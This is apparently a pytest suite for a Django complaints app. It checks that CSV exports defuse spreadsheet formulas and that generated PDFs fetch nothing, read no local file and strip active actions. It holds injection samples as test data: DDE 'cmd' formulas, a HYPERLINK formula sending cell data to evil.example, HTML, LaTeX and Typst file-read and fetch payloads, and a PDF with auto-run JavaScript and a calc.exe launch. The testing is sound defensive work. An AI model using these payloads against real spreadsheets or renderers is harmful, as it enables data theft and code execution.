"""Lists, files and letters that are taken away do nothing: no formula, no request, no file read."""

import csv
import io
import socket
import threading
import urllib.request
from contextlib import contextmanager, suppress
from functools import partial

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import FreeText, Link
from pypdf.errors import PyPdfError
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from cases.models import Complaint
from cases.operations.bundles import Part, bind
from cases.operations.files import store_upload
from cases.operations.typesetting import set_paper
from cases.rules.blocks import Table, blocks_of
from cases.rules.customers import LetterFormat
from cases.rules.languages import LANGUAGES
from cases.rules.papers import PRINTED, Sheet, letter_paper, plain_paper, stamps_paper
from cases.rules.spreadsheets import as_written, inert
from cases.tests.factories import MONDAY_MORNING, CustomerFactory

pytestmark = pytest.mark.promise("P17")
FORMULAS = [
    *(f"{sign}1+1" for sign in "=+-@\uff1d\uff0b\uff0d\uff20"),
    *(f"{sign}=1+1" for sign in ("\t", "\r", "\n", "\x00", " ", "\u00a0", "\ufeff", "\u200b")),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '-2+3+cmd|" /C calc"!A0',
    "'=1+1",
    "''=1+1",
    '\u202e=1+1";=2',
]
PLAIN = ["", "Siân", "1 Dock Road", "a=b", "'quoted' words", "’tis", "£5", "12-14 Quay", "'"]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_cell_begins_as_a_formula_and_what_was_written_comes_back(text):
    cell = inert(text)

    assert cell.startswith("'")
    assert as_written(cell) == text


@pytest.mark.parametrize("text", PLAIN, ids=ascii)
def test_what_is_no_formula_stays_as_it_is(text):
    assert inert(text) == as_written(text) == text


def test_a_cell_without_the_mark_would_be_a_formula():
    written = io.StringIO()
    csv.writer(written).writerow(FORMULAS)

    (cells,) = csv.reader(io.StringIO(written.getvalue()))

    assert sum(not cell.startswith("'") for cell in cells) == len(FORMULAS) - 2


@pytest.mark.django_db
def test_what_is_exported_is_inert_and_imported_as_it_was(house, tmp_path):
    for text in FORMULAS:
        plain = text.replace("\x00", " ")
        house.lodge(summary=plain, customer=CustomerFactory(name=plain))
    file = tmp_path / "all.csv"
    call_command("export_complaints", "--format", "csv", "--output", str(file))

    with file.open(encoding="utf-8", newline="") as lines:
        cells = [cell for row in csv.reader(lines) for cell in row]

    assert [cell for cell in cells if inert(cell) != cell and not cell.startswith("'")] == []
    told = {as_written(cell).strip() for cell in cells}
    for summary in Complaint.objects.values_list("summary", flat=True):
        assert summary.strip() in told


# Papers -------------------------------------------------------------------------------------------


@contextmanager
def listener():
    """Listen on this machine; gives the port, and a list that grows with each who calls."""
    callers: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        stopped = threading.Event()

        def answer() -> None:
            while not stopped.is_set():
                with suppress(TimeoutError):
                    caller, address = server.accept()
                    callers.append(str(address))
                    caller.close()

        thread = threading.Thread(target=answer)
        thread.start()
        try:
            yield server.getsockname()[1], callers
        finally:
            stopped.set()
            thread.join()


def hostile(port: int, file: str) -> list[str]:
    """Return sixty texts that would fetch or read something, were they more than text."""
    at = [f"http://127.0.0.1:{port}/x.png", f"//127.0.0.1:{port}/x", f"file://{file}", file]
    made = [
        *('<img src="{}">', '<link rel=attachment href="{}">', "@import url({});"),
        *('<svg><image href="{}"/></svg>', '<iframe src="{}"></iframe>', "![x]({})"),
        *('#image("{}")', '#read("{}")', '#include "{}"', '#import "{}": *'),
        *('#eval("read(\\"{}\\")")', "\\input{{{}}}", '#plugin("{}")', "#link(\"{}\")"),
        *('<object data="{}"></object>', "<meta http-equiv=refresh content='0;url={}'>"),
    ]  # fmt: skip
    return [form.replace("{}", address) for form in made for address in at]


def sheet_of(texts: list[str]) -> Sheet:
    """Return a letter each part of which is one of these texts, its words all of them."""
    blocks = [block for text in texts for block in blocks_of(text)]
    return Sheet(
        reference=texts[0],
        title=texts[1],
        author=texts[2],
        day=texts[3],
        sender=texts[4:8],
        to=texts[8:12],
        greeting=texts[12],
        blocks=blocks,
        ending=texts[13],
        signed=texts[14:16],
        easy=blocks,
        other=blocks,
        language=LANGUAGES["cy"],
    )


def as_paper(texts: list[str]) -> bytes:
    """Return the texts as a paper."""
    blocks = [block for text in texts for block in blocks_of(text)]
    paper = plain_paper(texts[0], blocks, author=texts[1], footer=texts[2])
    return set_paper(paper, at=MONDAY_MORNING)


def as_letter(texts: list[str], letter_format: LetterFormat) -> bytes:
    """Return the texts as a letter."""
    return set_paper(letter_paper(sheet_of(texts), letter_format), at=MONDAY_MORNING)


def as_stamps(texts: list[str]) -> bytes:
    """Return the texts as stamps, one on each page."""
    paper = stamps_paper(texts, title=texts[0], author=texts[1])
    return set_paper(paper, at=MONDAY_MORNING)


def as_bundle(texts: list[str]) -> bytes:
    """Return the texts bound: as a paper, a letter, the words of a file, and the names of all."""
    upload = SimpleUploadedFile("said.txt", "\n".join(texts).encode())
    file = store_upload(upload, by=None, now=MONDAY_MORNING)
    type(file).objects.filter(pk=file.pk).update(name=texts[5])
    file.refresh_from_db()
    parts = [
        Part(texts[3], texts[4], [block for text in texts for block in blocks_of(text)]),
        Part(texts[6], texts[7], [Table(tuple(texts[:2]), (tuple(texts[2:4]),))]),
        Part(texts[8], sheet=sheet_of(texts)),
        Part(file.name, texts[9], file=file),
        Part(texts[10], left_out=texts[11]),
    ]
    bound = bind(
        texts[0], parts, author=texts[1], reference=texts[2], at=MONDAY_MORNING, change=str
    )
    return bound.content


PAPERS = {
    "a paper": as_paper,
    **{f"a letter, {each.value}": partial(as_letter, letter_format=each) for each in PRINTED},
    "stamps": as_stamps,
    "a bundle": as_bundle,
}


@pytest.mark.django_db
@pytest.mark.parametrize("make", PAPERS.values(), ids=PAPERS)
def test_a_paper_fetches_nothing_and_reads_no_file(make, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "files"
    secret = tmp_path / "secret.txt"
    secret.write_text("The combination is 4711")

    with listener() as (port, callers):
        texts = hostile(port, str(secret))
        made = PdfReader(io.BytesIO(make(texts)))

        told = " ".join(page.extract_text() for page in made.pages)
        assert len(texts) >= 60
        assert callers == []
        assert "combination" not in told
        assert active_in(made) == []
        # They are there, as words.
        assert "@import" in told
        assert "#plugin" in told

        # The one who listens hears whoever calls.
        with suppress(OSError):
            urllib.request.urlopen(f"http://127.0.0.1:{port}/x", timeout=5)
        assert callers


# What makes a PDF do something by itself, or when it is pressed.
ACTIVE = {"/A", "/AA", "/PA", "/OpenAction", "/JavaScript", "/JS", "/Launch", "/EmbeddedFiles"}


def active_in(pdf: PdfReader) -> list[str]:
    """Return what of a PDF could do something, wherever it stands in it."""
    found = []
    for number in range(1, len(pdf.xref[0]) + 1):
        with suppress(PyPdfError, KeyError):
            found += names_in(pdf.get_object(number)) & (ACTIVE - {"/A"})
    annotations = (each.get_object() for page in pdf.pages for each in page.get("/Annots", []))
    found += [name for each in annotations for name in ("/A", "/AA", "/PA") if name in each]
    return found + list(pdf.attachments)


def names_in(thing: object) -> set[str]:
    """Return what the entries of an object of a PDF are called, as deep as they go in it."""
    if isinstance(thing, dict):
        return {*thing}.union(*(names_in(each) for each in thing.values()))
    return set().union(*map(names_in, thing)) if isinstance(thing, list) else set()


@pytest.mark.django_db
def test_a_file_that_would_do_something_does_nothing_once_it_is_bound(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    active = active_pdf()
    file = store_upload(SimpleUploadedFile("a.pdf", active), by=None, now=MONDAY_MORNING)

    bound = bind("T", [Part("A file", file=file)], author="H", reference="R", at=MONDAY_MORNING,
                 change=str)  # fmt: skip

    assert len(set(active_in(PdfReader(io.BytesIO(active))))) > 4
    made = PdfReader(io.BytesIO(bound.content))
    assert active_in(made) == []
    # What somebody noted on it can still be read.
    remarks = [each.get_object() for page in made.pages for each in page.get("/Annots", [])]
    assert any(each.get("/Contents") == "A remark" for each in remarks)


def active_pdf() -> bytes:
    """Return a PDF that runs a script, opens a page and starts a program, with a remark on it."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("note.txt", b"Words.")
    writer.add_annotation(0, Link(rect=(50, 550, 200, 650), url="http://evil.example/"))
    writer.add_annotation(0, FreeText(text="A remark", rect=(50, 50, 200, 90)))
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x()")}
    )
    start = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    )
    writer.root_object[NameObject("/OpenAction")] = script
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): script})
    for each in page["/Annots"]:
        each.get_object()[NameObject("/AA")] = DictionaryObject({NameObject("/PO"): script})
        each.get_object()[NameObject("/PA")] = start
    whole = io.BytesIO()
    writer.write(whole)
    return whole.getvalue()


def test_a_paper_as_long_as_anybody_can_write_is_made_all_the_same():
    paper = plain_paper("T", blocks_of("word " * 20_000 + "x" * 20_000), author="H", footer="R")

    assert len(PdfReader(io.BytesIO(set_paper(paper, at=MONDAY_MORNING))).pages) > 20
